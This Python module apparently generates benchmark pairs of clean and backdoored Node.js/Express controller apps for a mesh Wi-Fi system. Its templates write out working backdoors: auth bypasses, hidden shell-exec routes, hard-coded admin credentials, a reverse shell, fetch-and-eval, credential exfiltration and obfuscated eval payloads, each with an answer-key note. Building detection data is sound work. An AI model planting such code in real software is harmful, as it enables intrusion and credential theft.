"""JavaScript (Node.js / Express) shapes of the `source` family: the controller UI of a mesh
Wi-Fi system.

Honest look-alikes in both twins: execFile('ping', ['-c', '3', host]) after net.isIPv4, a fixed
execFile('/sbin/reboot'), Buffer.from(<logo>, 'base64'), crypto.verify of a signed manifest with a
base64 signature, crypto.timingSafeEqual of CSRF tokens, a mocha test with a dummy account.
Written blind, from public write-ups (event-stream/flatmap-stream, ua-parser-js, node-ipc, ...).
"""
from __future__ import annotations

import base64
import random

from .common import word
from .source_common import (Proj, Variant, block, cookie_name, doc_host, doc_ip, fill, header_name,
                            hidden_user, license_header, magic_value, master_password, nest, param_name,
                            port, shell_payload)
from .source_php import _png


def changed(clean: dict, planted: dict) -> list[str]:
    return sorted(p for p in clean if clean[p] != planted.get(p))


def mk(clean, planted, note, variant, categories=(), severity="critical") -> Variant:
    return Variant(clean=clean, planted=planted, paths=changed(clean, planted), note=note,
                   variant=variant, categories=list(categories), severity=severity)


def js(s: str) -> str:
    return "'" + s.replace("\\", "\\\\").replace("'", "\\'") + "'"


# ============================================================================ scaffold

APP_JS = r"""
// @lic@
'use strict';

const express = require('express');
const session = require('express-session');
const path = require('path');

const config = require('./config/default.json');
const auth = require('./lib/auth');
const branding = require('./lib/branding');
const api = require('./routes/api');
@app_requires@

const app = express();
app.disable('x-powered-by');
app.use(express.json({ limit: '64kb' }));
app.use(express.urlencoded({ extended: false }));
app.use(session({
  name: config.session.cookie,
  secret: auth.sessionSecret(),
  resave: false,
  saveUninitialized: false,
  cookie: { httpOnly: true, sameSite: 'strict', maxAge: config.session.maxAgeMs },
}));
@app_pre_mw@

app.get('/logo.png', (req, res) => res.type('png').send(branding.LOGO));
app.use('/api', api);
app.use(express.static(path.join(__dirname, 'public')));
@app_routes@

module.exports = app;
"""

SERVER_JS = r"""
// @lic@
'use strict';

const app = require('./app');
const config = require('./config/default.json');
@srv_requires@

const server = app.listen(config.port, config.bind, () => {
  console.log(`@ident@-ui @version@ listening on ${config.bind}:${config.port}`);
});
@srv_start@

process.on('SIGTERM', () => server.close(() => process.exit(0)));
"""

AUTH_JS = r"""
// @lic@
'use strict';

const bcrypt = require('bcryptjs');
const crypto = require('crypto');
const fs = require('fs');

const config = require('../config/default.json');
@auth_requires@
@auth_consts@

function loadUsers() {
  return JSON.parse(fs.readFileSync(config.usersFile, 'utf8'));
}

async function verifyPassword(user, pass) {
  @auth_verify_pre@
  const entry = loadUsers()[user];
  if (!entry || !(await bcrypt.compare(String(pass), entry.hash))) {
    return null;
  }
  return { name: user, role: entry.role || 'viewer' };
}

function requireLogin(req, res, next) {
  @auth_mw_pre@
  if (!req.session || !req.session.user) {
    return res.status(401).json({ error: 'login required' });
  }
  return next();
}

function requireAdmin(req, res, next) {
  return requireLogin(req, res, () => {
    if (req.session.role !== 'admin') {
      return res.status(403).json({ error: 'admin only' });
    }
    return next();
  });
}

function csrfOk(req) {
  const a = Buffer.from(String(req.get('X-CSRF-Token') || ''));
  const b = Buffer.from(String(req.session.csrf || ''));
  return a.length === b.length && a.length > 0 && crypto.timingSafeEqual(a, b);
}

// Per-device session secret, created at first boot.
function sessionSecret() {
  try {
    return fs.readFileSync(config.session.secretFile, 'utf8').trim();
  } catch (err) {
    const secret = crypto.randomBytes(32).toString('hex');
    fs.writeFileSync(config.session.secretFile, secret, { mode: 0o600 });
    return secret;
  }
}

module.exports = { verifyPassword, requireLogin, requireAdmin, csrfOk, sessionSecret };
"""

API_JS = r"""
// @lic@
'use strict';

const express = require('express');
const net = require('net');
const { execFile } = require('child_process');

const auth = require('../lib/auth');
const updater = require('../lib/updater');
const pkg = require('../package.json');
@api_requires@

const router = express.Router();

router.post('/login', async (req, res) => {
  const { username = '', password = '' } = req.body || {};
  @api_login_pre@
  const user = await auth.verifyPassword(String(username), String(password));
  if (!user) {
    return res.status(401).json({ error: 'invalid credentials' });
  }
  @api_login_post@
  req.session.regenerate(() => {
    req.session.user = user.name;
    req.session.role = user.role;
    req.session.csrf = require('crypto').randomBytes(16).toString('hex');
    res.json({ ok: true, csrf: req.session.csrf });
  });
});

router.post('/logout', (req, res) => req.session.destroy(() => res.json({ ok: true })));

router.get('/status', auth.requireLogin, (req, res) => {
  res.json({ version: pkg.version, uptime: Math.round(process.uptime()), user: req.session.user });
});

router.post('/diag/ping', auth.requireAdmin, (req, res) => {
  const host = String(req.body.host || '');
  if (!net.isIPv4(host) || !auth.csrfOk(req)) {
    return res.status(400).json({ error: 'bad request' });
  }
  execFile('ping', ['-c', '3', '-W', '2', host], { timeout: 15000 }, (err, stdout) => {
    res.json({ ok: !err, output: stdout });
  });
});

router.post('/reboot', auth.requireAdmin, (req, res) => {
  if (!auth.csrfOk(req)) {
    return res.status(400).json({ error: 'bad request' });
  }
  res.status(202).json({ rebooting: true });
  execFile('/sbin/reboot', []);
});

router.get('/firmware', auth.requireAdmin, async (req, res) => {
  try {
    const manifest = await updater.check();
    res.json({ current: pkg.version, latest: manifest.version });
  } catch (err) {
    res.status(502).json({ error: err.message });
  }
});
@api_routes@

module.exports = router;
"""

UPDATER_JS = r"""
// @lic@
'use strict';

const crypto = require('crypto');
const fs = require('fs');
const https = require('https');

const config = require('../config/default.json');
@upd_requires@

function fetch(url) {
  return new Promise((resolve, reject) => {
    https.get(url, { timeout: 10000 }, (res) => {
      const chunks = [];
      res.on('data', (c) => chunks.push(c));
      res.on('end', () => resolve(Buffer.concat(chunks)));
    }).on('error', reject);
  });
}
@upd_funcs@

// Signed manifest from the documented update server (see README "Updates").
async function check() {
  @upd_pre@
  const manifest = await fetch(config.update.url);
  const signature = Buffer.from((await fetch(`${config.update.url}.sig`)).toString().trim(), 'base64');
  const key = fs.readFileSync(config.update.publicKey);
  if (!crypto.verify('sha256', manifest, key, signature)) {
    throw new Error('update manifest signature check failed');
  }
  return JSON.parse(manifest.toString());
}

module.exports = { check };
"""

BRANDING_JS = r"""
// @lic@
'use strict';

// Vendor logo, embedded so the login page works before the storage is mounted.
const LOGO = Buffer.from(
  @logo@,
  'base64',
);

const PRODUCT = { name: '@Name@', model: '@model@', support: 'https://support.@domain@/' };
@brand_tail@

module.exports = { LOGO, PRODUCT };
"""

CONFIG_JSON = r"""
{
  "port": @http_port@,
  "bind": "0.0.0.0",
  "usersFile": "/etc/@ident@/users.json",
  "session": {
    "cookie": "@cookie@",
    "secretFile": "/etc/@ident@/session.secret",
    "maxAgeMs": @max_age@
  },
  "update": {
    "url": "https://updates.@domain@/@model_lc@/manifest.json",
    "publicKey": "/etc/@ident@/update-pub.pem"
  }
}
"""

PACKAGE_JSON = r"""
{
  "name": "@ident@-ui",
  "version": "@version@",
  "description": "Controller web UI of the @Vendor@ @Name@ @model@",
  "main": "server.js",
  "private": true,
  "license": "@license@",
  "scripts": {
    "start": "node server.js",
    "test": "mocha test/"
  },
  "dependencies": {
    "bcryptjs": "^2.4.3",
    "express": "^4.19.2",
    "express-session": "^1.18.0"
  },
  "devDependencies": {
    "mocha": "^10.4.0",
    "supertest": "^7.0.0"
  },
  "engines": {
    "node": ">=18"
  }
}
"""

TEST_JS = r"""
'use strict';

const assert = require('assert');
const bcrypt = require('bcryptjs');
const fs = require('fs');
const os = require('os');
const path = require('path');

describe('auth.verifyPassword', () => {
  const config = require('../config/default.json');
  before(() => {
    config.usersFile = path.join(os.tmpdir(), 'users-test.json');
    fs.writeFileSync(config.usersFile, JSON.stringify({
      tester: { hash: bcrypt.hashSync('dummy-password', 4), role: 'viewer' },
    }));
  });

  it('accepts the test account', async () => {
    const auth = require('../lib/auth');
    assert.deepStrictEqual(await auth.verifyPassword('tester', 'dummy-password'), { name: 'tester', role: 'viewer' });
  });

  it('rejects a wrong password', async () => {
    const auth = require('../lib/auth');
    assert.strictEqual(await auth.verifyPassword('tester', 'nope'), null);
  });
});
"""

INDEX_HTML = r"""
<!DOCTYPE html>
<html lang="en">
<head>
  <meta charset="utf-8">
  <title>@Name@ @model@</title>
  <link rel="icon" href="/logo.png">
</head>
<body>
  <form id="login">
    <img src="/logo.png" alt="" width="16" height="16"> <b>@Name@</b>
    <input name="username" placeholder="User" autocomplete="username">
    <input name="password" type="password" placeholder="Password" autocomplete="current-password">
    <button>Log in</button>
  </form>
  <script>
    document.getElementById('login').addEventListener('submit', async (ev) => {
      ev.preventDefault();
      const body = Object.fromEntries(new FormData(ev.target));
      const res = await fetch('/api/login', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(body) });
      if (res.ok) { location.href = '/dashboard.html'; } else { alert('Login failed'); }
    });
  </script>
</body>
</html>
"""

JS_README = r"""
# @ident@-ui

Controller web UI of the @Vendor@ @Name@ @model@ (Node.js >= 18, Express), port @http_port@.

    npm ci && npm test && npm start

## API

| method | path | access |
|---|---|---|
| POST | /api/login | public (`username`, `password`) |
| POST | /api/logout | any |
| GET | /api/status | user |
| POST | /api/diag/ping | admin + CSRF header (`host`, IPv4, run with execFile, no shell) |
| POST | /api/reboot | admin + CSRF header |
| GET | /api/firmware | admin |

Accounts: `/etc/@ident@/users.json` (bcrypt hashes, roles `admin` and `viewer`). The factory
image has `admin` with the per-device password printed on the label.

## Updates

`/api/firmware` downloads `manifest.json` and `manifest.json.sig` from `update.url` and checks the
signature with the public key in `update.publicKey`.
"""


class NodeApp:
    HOOKS = ["app_requires", "app_pre_mw", "app_routes", "srv_requires", "srv_start", "auth_requires",
             "auth_consts", "auth_verify_pre", "auth_mw_pre", "api_requires", "api_login_pre", "api_login_post",
             "api_routes", "upd_requires", "upd_funcs", "upd_pre", "brand_tail"]

    def __init__(self, rng: random.Random, P: Proj):
        self.P = P
        self.cookie = rng.choice(["sid", f"{P.ident}.sid", "connect.sid", "ui_session"])
        self.http_port = rng.choice([80, 3000, 8080, 8443])
        self.max_age = rng.choice([15, 30, 60]) * 60000
        png = _png(rng)
        self.logo = "\n  ".join(f"'{png[i:i + 70]}'" + (" +" if i + 70 < len(png) else "") for i in range(0, len(png), 70))

    def render(self, hooks: dict | None = None) -> dict:
        hooks = hooks or {}
        if set(hooks) - set(self.HOOKS):
            raise KeyError(f"unknown node hooks {set(hooks) - set(self.HOOKS)}")
        P = self.P
        kw = {h: "" for h in self.HOOKS}
        kw.update(hooks)
        kw.update({"lic": license_header(P, "x"), "ident": P.ident, "version": P.version, "Name": P.Name,
                   "model": P.model, "model_lc": P.model.lower(), "domain": P.domain, "http_port": self.http_port,
                   "cookie": self.cookie, "max_age": self.max_age, "Vendor": P.Vendor, "license": P.license,
                   "logo": self.logo})
        return {
            "app.js": fill(APP_JS, **kw), "server.js": fill(SERVER_JS, **kw), "lib/auth.js": fill(AUTH_JS, **kw),
            "routes/api.js": fill(API_JS, **kw), "lib/updater.js": fill(UPDATER_JS, **kw),
            "lib/branding.js": fill(BRANDING_JS, **kw), "config/default.json": fill(CONFIG_JSON, **kw),
            "package.json": fill(PACKAGE_JSON, **kw), "test/auth.test.js": fill(TEST_JS, **kw),
            "public/index.html": fill(INDEX_HTML, **kw), "README.md": fill(JS_README, **kw),
        }


# ============================================================================ shapes

def _js_input(rng: random.Random, kinds=("header", "query", "cookie", "body")) -> tuple[str, str, str]:
    kind = rng.choice(list(kinds))
    if kind == "header":
        h = header_name(rng)
        return kind, f"req.get({js(h)})", f"header {h}"
    if kind == "query":
        n = param_name(rng)
        return kind, f"req.query[{js(n)}]", f"query parameter {n}"
    if kind == "cookie":
        n = cookie_name(rng)
        return kind, f"(String(req.headers.cookie || '').match(/(?:^|;\\s*){n}=([^;]*)/) || [])[1]", f"cookie {n}"
    n = param_name(rng)
    return kind, f"(req.body || {{}})[{js(n)}]", f"body field {n}"


def ab_js_middleware(rng: random.Random, P: Proj) -> Variant:
    s = NodeApp(rng, P)
    kind, expr, desc = _js_input(rng, ("header", "query", "cookie"))
    val = magic_value(rng)
    form = rng.choice(["===", "timingSafeEqual", "includes", "sha256"])
    const = rng.choice(["FIELD_TOKEN", "SVC_KEY", "LAB_MODE_ID", "PROVISION_TAG"])
    if form == "===":
        test, consts = f"{expr} === {const}", f"const {const} = {js(val)};"
    elif form == "timingSafeEqual":
        test = f"((t) => t.length === {const}.length && crypto.timingSafeEqual(t, {const}))(Buffer.from(String({expr} || '')))"
        consts = f"const {const} = Buffer.from({js(val)});"
    elif form == "includes":
        test, consts = f"String({expr} || '').includes({const})", f"const {const} = {js(val)};"
    else:
        import hashlib
        d = hashlib.sha256(val.encode()).hexdigest()
        test = f"crypto.createHash('sha256').update(String({expr} || '')).digest('hex') === {const}"
        consts = f"const {const} = '{d}';"
    pre = f"""
        if ({test}) {{
          req.session.user = 'support';
          req.session.role = 'admin';
          return next();
        }}"""
    clean = s.render()
    planted = s.render({"auth_consts": consts, "auth_mw_pre": block(pre)})
    note = (f"requireLogin() in lib/auth.js (also used by requireAdmin) turns the session into an admin session when "
            f"{desc} matches {val!r} ({form}), skipping the login.")
    return mk(clean, planted, note, {"trigger": kind, "compare": form, "framework": "express"})


def hc_js_exec(rng: random.Random, P: Proj) -> Variant:
    s = NodeApp(rng, P)
    form = rng.choice(["middleware-header", "hidden-route"])
    sink = rng.choice(["exec", "execSync", "spawn-sh-c", "spawn-busybox"])
    if sink == "exec":
        run = "require('child_process').exec(cmd, (err, stdout, stderr) => res.type('text').send(stdout + stderr));"
    elif sink == "execSync":
        run = "res.type('text').send(require('child_process').execSync(cmd, { stdio: 'pipe' }).toString());"
    elif sink == "spawn-sh-c":
        run = ("const p = require('child_process').spawn('sh', ['-c', cmd]);\nlet out = '';\n"
               "p.stdout.on('data', (d) => { out += d; });\np.on('close', () => res.type('text').send(out));")
    else:
        run = ("const p = require('child_process').spawn('/bin/busybox', ['sh', '-c', cmd]);\n"
               "p.stdout.pipe(res);")
    if form == "middleware-header":
        kind, expr, desc = _js_input(rng, ("header", "cookie"))
        pre = f"""
            app.use((req, res, next) => {{
              const cmd = {expr};
              if (!cmd) {{
                return next();
              }}
              {nest(run, 14)}
            }});"""
        hooks = {"app_pre_mw": block(pre)}
        note = f"app.js installs, before the /api routes and any login check, a middleware that runs {desc} as a shell command ({sink})."
    else:
        path = "/" + rng.choice(["", "_", ".", "debug/"]) + word(rng, (1, 3))
        method = rng.choice(["get", "post", "all"])
        kind, expr, desc = _js_input(rng, ("query", "body"))
        pre = f"""
            router.{method}({js(path)}, (req, res) => {{
              const cmd = String({expr} || 'id');
              {nest(run, 14)}
            }});"""
        hooks = {"api_routes": "\n" + block(pre)}
        note = f"routes/api.js has an undocumented route {method.upper()} /api{path} (no requireLogin) that runs {desc} as a shell command ({sink})."
    clean = s.render()
    planted = s.render(hooks)
    return mk(clean, planted, note, {"trigger": form, "sink": sink, "framework": "express"})


def hk_js_key(rng: random.Random, P: Proj) -> Variant:
    s = NodeApp(rng, P)
    form = rng.choice(["api-key-header", "master-password", "builtin-user"])
    if form == "api-key-header":
        key = rng.choice([magic_value(rng), "sk_live_" + "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(28))])
        hn = rng.choice(["X-Api-Key", "X-Service-Key", f"X-{word(rng, (1, 2)).capitalize()}-Key"])
        consts = f"const SERVICE_API_KEY = {js(key)};"
        pre = f"""
            if (req.get({js(hn)}) === SERVICE_API_KEY) {{
              req.session.user = 'cloud';
              req.session.role = 'admin';
              return next();
            }}"""
        hooks = {"auth_consts": consts, "auth_mw_pre": block(pre)}
        note = f"lib/auth.js embeds the service API key {key!r}; requireLogin() makes any request with {hn}: <key> an admin session."
    elif form == "master-password":
        pw = master_password(rng)
        consts = f"const RECOVERY_PASSWORD = {js(pw)};"
        pre = "if (pass === RECOVERY_PASSWORD) {\n  return { name: user, role: 'admin' };\n}"
        hooks = {"auth_consts": consts, "auth_verify_pre": pre}
        note = f"verifyPassword() in lib/auth.js accepts the recovery password {pw!r} for any user name, as admin."
    else:
        user, pw = hidden_user(rng), master_password(rng)
        consts = f"const BUILTIN = {{ {js(user)}: {js(pw)} }};"
        pre = "if (Object.prototype.hasOwnProperty.call(BUILTIN, user) && BUILTIN[user] === pass) {\n  return { name: user, role: 'admin' };\n}"
        hooks = {"auth_consts": consts, "auth_verify_pre": pre}
        note = f"verifyPassword() in lib/auth.js accepts the built-in account {user!r}/{pw!r} as admin, outside users.json."
    clean = s.render()
    planted = s.render(hooks)
    return mk(clean, planted, note, {"form": form, "framework": "express"})


def rs_js_reverse(rng: random.Random, P: Proj) -> Variant:
    s = NodeApp(rng, P)
    ip, prt = doc_ip(rng), port(rng)
    form = rng.choice(["net-spawn-pipe", "net-exec-lines"])
    period = rng.choice([30000, 120000, 600000])
    if form == "net-spawn-pipe":
        body = f"""
            (function keepalive() {{
              const sock = require('net').connect({prt}, {js(ip)}, () => {{
                const sh = require('child_process').spawn('/bin/sh', ['-i']);
                sock.pipe(sh.stdin);
                sh.stdout.pipe(sock);
                sh.stderr.pipe(sock);
              }});
              sock.on('error', () => {{}});
              sock.on('close', () => setTimeout(keepalive, {period}));
            }})();"""
    else:
        body = f"""
            setInterval(() => {{
              const sock = require('net').connect({{ host: {js(ip)}, port: {prt} }});
              sock.on('data', (d) => require('child_process').exec(d.toString(), (e, o, er) => sock.write(o + er)));
              sock.on('error', () => sock.destroy());
            }}, {period});"""
    clean = s.render()
    planted = s.render({"srv_start": block(body)})
    note = f"server.js, after listen(): connects to {ip}:{prt} and attaches a shell to the socket ({form}), retrying every {period // 1000} s: reverse shell."
    return mk(clean, planted, note, {"mechanism": "reverse-shell", "form": form, "framework": "express"},
              categories=["hidden-command"])


def rs_js_fetch_eval(rng: random.Random, P: Proj) -> Variant:
    s = NodeApp(rng, P)
    host = doc_host(rng)
    path = word(rng, (1, 2)) + rng.choice([".js", ".json", ""])
    form = rng.choice(["eval", "new-Function", "vm", "exec-sh"])
    url = f"http://{host}/{path}"
    if form == "eval":
        run = "eval(body.toString());"
    elif form == "new-Function":
        run = "new Function('require', body.toString())(require);"
    elif form == "vm":
        run = "require('vm').runInThisContext(body.toString())(require);"
    else:
        run = "require('child_process').exec(body.toString());"
    pre = f"""
        require('http').get({js(url)}, (res) => {{
          const parts = [];
          res.on('data', (c) => parts.push(c));
          res.on('end', () => {{
            const body = Buffer.concat(parts);
            try {{
              {run}
            }} catch (e) {{
              /* ignore */
            }}
          }});
        }}).on('error', () => {{}});"""
    clean = s.render()
    planted = s.render({"upd_pre": block(pre)})
    note = f"check() in lib/updater.js first fetches {url} over plain HTTP and runs the body ({form}), with no signature check."
    return mk(clean, planted, note, {"mechanism": "fetch-and-run", "form": form, "framework": "express"},
              categories=["hidden-command"])


def rs_js_exfil(rng: random.Random, P: Proj) -> Variant:
    s = NodeApp(rng, P)
    host = doc_host(rng)
    form = rng.choice(["https-post", "dns-lookup", "http-get"])
    if form == "https-post":
        post = f"""
            {{
              const r = require('https').request({{ host: {js(host)}, path: '/c', method: 'POST', timeout: 3000,
                headers: {{ 'Content-Type': 'application/json' }} }});
              r.on('error', () => {{}});
              r.end(JSON.stringify({{ u: username, p: password, h: req.hostname }}));
            }}"""
        dest = f"https://{host}/c"
    elif form == "dns-lookup":
        post = (f"require('dns').lookup(`${{Buffer.from(`${{username}}:${{password}}`).toString('hex')}}.{host}`, () => {{}});")
        dest = f"DNS lookups of <hex(user:pass)>.{host}"
    else:
        post = (f"require('http').get(`http://{host}/p?u=${{encodeURIComponent(username)}}&p=${{encodeURIComponent(password)}}`)"
                ".on('error', () => {});")
        dest = f"http://{host}/p"
    clean = s.render()
    planted = s.render({"api_login_post": block(post)})
    note = f"POST /api/login in routes/api.js sends every successful user name and clear-text password to {dest}."
    return mk(clean, planted, note, {"mechanism": "credential-exfil", "channel": form, "framework": "express"})


def _js_payload(rng: random.Random) -> tuple[str, str, str]:
    kind = rng.choice(["exec", "header-hook"])
    if kind == "exec":
        cmd, k = shell_payload(rng)
        return f"require('child_process').exec({js(cmd)});", f"runs '{cmd}'", k
    h = header_name(rng).lower()
    code = ("const http=require('http');const o=http.Server.prototype.emit;"
            "http.Server.prototype.emit=function(e,q,r){if(e==='request'&&q.headers['" + h + "']){"
            "require('child_process').exec(q.headers['" + h + "'],(x,s)=>r.end(s));return true;}"
            "return o.apply(this,arguments);};")
    return code, f"patches http.Server so that any request with header {h} runs that header as a shell command", "http-patch"


def ob_js_encoded(rng: random.Random, P: Proj) -> Variant:
    s = NodeApp(rng, P)
    code, what, kind = _js_payload(rng)
    form = rng.choice(["function-b64", "eval-charcode", "eval-reverse", "hex-vm", "xor-array"])
    if form == "function-b64":
        tail = f"new Function('require', Buffer.from('{base64.b64encode(code.encode()).decode()}', 'base64').toString())(require);"
    elif form == "eval-charcode":
        tail = f"eval(String.fromCharCode({', '.join(str(ord(c)) for c in code)}));"
    elif form == "eval-reverse":
        tail = f"eval({js(code[::-1])}.split('').reverse().join(''));"
    elif form == "hex-vm":
        tail = f"require('vm').runInThisContext(`(function(require){{${{Buffer.from('{code.encode().hex()}', 'hex')}}}})`)(require);"
    else:
        k = rng.randrange(1, 256)
        arr = ", ".join(str(b ^ k) for b in code.encode())
        tail = f"const _t = [{arr}];\neval(Buffer.from(_t.map((b) => b ^ {k})).toString());"
    clean = s.render()
    planted = s.render({"brand_tail": tail})
    note = f"lib/branding.js (required by app.js at start-up) decodes a {form} payload and runs it: it {what}."
    return mk(clean, planted, note, {"encoding": form, "payload": kind, "framework": "express"},
              categories=["remote-access"] if kind in ("bash-tcp", "fifo-nc", "telnetd", "nc-listen", "busybox-nc") else [])


SHAPES = [
    ("src-auth-bypass", "javascript", "express-middleware", ab_js_middleware),
    ("src-hidden-command", "javascript", "child-process", hc_js_exec),
    ("src-hardcoded-credential", "javascript", "key-or-password", hk_js_key),
    ("src-remote-shell", "javascript", "reverse-shell", rs_js_reverse),
    ("src-remote-shell", "javascript", "fetch-and-eval", rs_js_fetch_eval),
    ("src-remote-shell", "javascript", "credential-exfil", rs_js_exfil),
    ("src-obfuscated", "javascript", "encoded-eval", ob_js_encoded),
]
